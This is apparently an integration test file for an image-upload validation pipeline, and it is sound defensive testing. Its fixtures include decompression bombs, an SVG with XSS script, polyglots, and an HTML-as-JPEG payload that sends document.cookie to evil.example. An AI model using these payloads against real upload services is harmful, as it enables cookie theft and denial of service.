"""Hostile selfies, the whole way: presign, PUT to the signature-checking S3, confirm,
validation. Each is rejected with its code (its bytes replaced by the empty
placeholder, nothing sanitized written) or accepted only as a clean re-encoded
JPEG (no metadata of any kind, one frame, RGB). Real PostgreSQL and LocalStack S3."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import pillow_heif
import pytest
from PIL import Image, ImageCms

from shared.storage.base import ObjectMissing
from shared.storage.keys import sanitized_key
from tests.conftest import fixture_bytes
from tests.integration.test_upload_flow import presign, put

ASTRONAUT = fixture_bytes("astronaut.jpg")
USER = "mallory"


def _photo() -> Image.Image:
    with Image.open(io.BytesIO(ASTRONAUT)) as image:
        return image.convert("RGB").resize((256, 256))


def _save(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(
        ">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


# --- decompression bombs: headers that claim far more pixels than MAX_IMAGE_PIXELS ---

def bomb_jpeg() -> bytes:
    data = bytearray(_save(_photo(), "JPEG"))
    sof = data.index(b"\xff\xc0")  # baseline frame header: precision, height, width
    data[sof + 5:sof + 9] = struct.pack(">HH", 60000, 60000)
    return bytes(data)


def bomb_png() -> bytes:
    width = height = 30000
    idat = zlib.compress((b"\0" + b"\0" * width) * 16, 9)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0,
                                                              0, 0, 0))
            + _chunk(b"IDAT", idat) + _chunk(b"IEND", b""))


def bomb_webp() -> bytes:
    """A lossless WebP whose header claims 16383 × 16383 (the format's maximum)."""
    data = bytearray(_save(Image.new("RGB", (1, 1)), "WEBP", lossless=True))
    vp8l = data.index(b"VP8L") + 8  # chunk header, then the 0x2f signature
    bits = (16383 - 1) | ((16383 - 1) << 14) | (data[vp8l + 4] >> 4 & 1) << 28
    data[vp8l + 1:vp8l + 5] = struct.pack("<I", bits)
    return bytes(data)


def bomb_heic() -> bytes:
    """A HEIC whose image size property (`ispe`) claims 60000 × 60000."""
    pillow_heif.register_heif_opener()
    data = bytearray(_save(_photo(), "HEIF"))
    ispe = data.index(b"ispe") + 8  # box type, then version and flags
    data[ispe:ispe + 8] = struct.pack(">II", 60000, 60000)
    return bytes(data)


# --- things that are not what they say -------------------------------------------

def svg_as_png() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
            b'<script>alert(document.cookie)</script></svg>')


def html_as_jpeg() -> bytes:
    return b"<!doctype html><html><body><script>fetch('https://evil.example/'+document.cookie)" \
           b"</script></body></html>"


def gif_js_polyglot() -> bytes:
    return b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=alert(document.domain);//" + b"\0" * 64


def png_as_jpeg() -> bytes:
    return _save(_photo(), "PNG")


def truncated_png() -> bytes:
    data = _save(_photo(), "PNG")
    return data[: len(data) // 2]


def jpeg_zip_polyglot() -> bytes:
    """A real JPEG with a ZIP archive after its end marker (a classic polyglot)."""
    archive = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.html", "<script>alert(1)</script>")
    return _save(_photo(), "JPEG") + archive.getvalue()


# --- legitimate but awkward: must come out clean -----------------------------------

def huge_metadata_jpeg() -> bytes:
    """EXIF close to a segment's 64 KB, an XMP packet, a comment, and a 1 MB ICC profile
    split over many APP2 segments."""
    exif = Image.Exif()
    exif[0x010E] = "x" * 60000  # ImageDescription
    exif[0x8825] = {1: "N", 2: (40.0, 25.0, 0.0)}  # GPS
    xmp = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description secret="'
           + b"y" * 20000 + b'"/></rdf:RDF></x:xmpmeta>')
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + b"\0" * 1_000_000
    return _save(_photo(), "JPEG", exif=exif, xmp=xmp, icc_profile=icc,
                 comment=b"<script>alert(1)</script>")


def cmyk_jpeg() -> bytes:
    return _save(_photo().convert("CMYK"), "JPEG")


def sixteen_bit_png() -> bytes:
    return _save(_photo().convert("L").convert("I;16"), "PNG")


def animated_png() -> bytes:
    frames = [_photo(), _photo().rotate(90), _photo().rotate(180)]
    return _save(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100)


def animated_webp() -> bytes:
    frames = [_photo(), _photo().rotate(90)]
    return _save(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=100)


REJECTED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "JPEG bomb": ("image/jpeg", bomb_jpeg, "upload.too_many_pixels"),
    "PNG bomb": ("image/png", bomb_png, "upload.too_many_pixels"),
    "WebP bomb": ("image/webp", bomb_webp, "upload.too_many_pixels"),
    "HEIC bomb": ("image/heic", bomb_heic, "upload.too_many_pixels"),
    "SVG as PNG": ("image/png", svg_as_png, "upload.undecodable"),
    "HTML as JPEG": ("image/jpeg", html_as_jpeg, "upload.undecodable"),
    "GIF/JS polyglot as JPEG": ("image/jpeg", gif_js_polyglot, "upload.undecodable"),
    "PNG as JPEG (wrong magic)": ("image/jpeg", png_as_jpeg, "upload.type_mismatch"),
    "JPEG as WebP (wrong magic)": ("image/webp", lambda: _save(_photo(), "JPEG"),
                                   "upload.type_mismatch"),
    "truncated PNG": ("image/png", truncated_png, "upload.undecodable"),
}
SANITIZED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "JPEG/ZIP polyglot": ("image/jpeg", jpeg_zip_polyglot),
    "huge EXIF, XMP, ICC, comment": ("image/jpeg", huge_metadata_jpeg),
    "CMYK JPEG": ("image/jpeg", cmyk_jpeg),
    "16-bit PNG": ("image/png", sixteen_bit_png),
    "animated PNG": ("image/png", animated_png),
    "animated WebP": ("image/webp", animated_webp),
}


def _upload(client, auth, data: bytes, content_type: str) -> dict:
    headers = auth(USER)
    issued = presign(client, headers, data, content_type=content_type).get_json()
    assert put(issued, data).status_code == 200
    assert client.post("/v1/uploads/confirm", headers=headers,
                       json={"key": issued["key"]}).status_code == 202
    return issued


@pytest.mark.parametrize("case", list(REJECTED))
def test_hostile_files_are_rejected_and_leave_only_the_placeholder(client, auth, svc, settings,
                                                                  case):
    content_type, make, code = REJECTED[case]
    issued = _upload(client, auth, make(), content_type)
    body = client.get(f"/v1/uploads/{issued['uploadId']}", headers=auth(USER)).get_json()
    assert (body["status"], body["rejection"]["code"]) == ("rejected", code)
    assert svc.storage.head(settings.uploads_bucket, issued["key"]).size == 0
    with pytest.raises(ObjectMissing):
        svc.storage.head(settings.uploads_bucket, sanitized_key(USER, issued["uploadId"]))
    keys = {k for k, _ in svc.storage.list_keys(settings.uploads_bucket, f"sanitized/{USER}/")}
    assert sanitized_key(USER, issued["uploadId"]) not in keys


@pytest.mark.parametrize("case", list(SANITIZED))
def test_awkward_files_come_out_as_clean_single_frame_rgb_jpegs(client, auth, svc, settings,
                                                                case):
    content_type, make = SANITIZED[case]
    data = make()
    issued = _upload(client, auth, data, content_type)
    body = client.get(f"/v1/uploads/{issued['uploadId']}", headers=auth(USER)).get_json()
    assert body["status"] == "ready", body.get("rejection")
    clean = svc.storage.get_bytes(settings.uploads_bucket,
                                  sanitized_key(USER, issued["uploadId"]), max_bytes=10**8)
    with Image.open(io.BytesIO(clean)) as image:
        assert image.format == "JPEG" and image.mode == "RGB"
        assert getattr(image, "n_frames", 1) == 1
        assert not image.getexif() and "icc_profile" not in image.info
        assert not any(key in image.info for key in ("xmp", "XML:com.adobe.xmp", "comment",
                                                     "exif"))
    for marker in (b"<script", b"PK\x03\x04", b"http://ns.adobe.com", b"xxxxxxxx", b"yyyyyyyy"):
        assert marker not in clean
    assert len(clean) < len(data) + 200_000
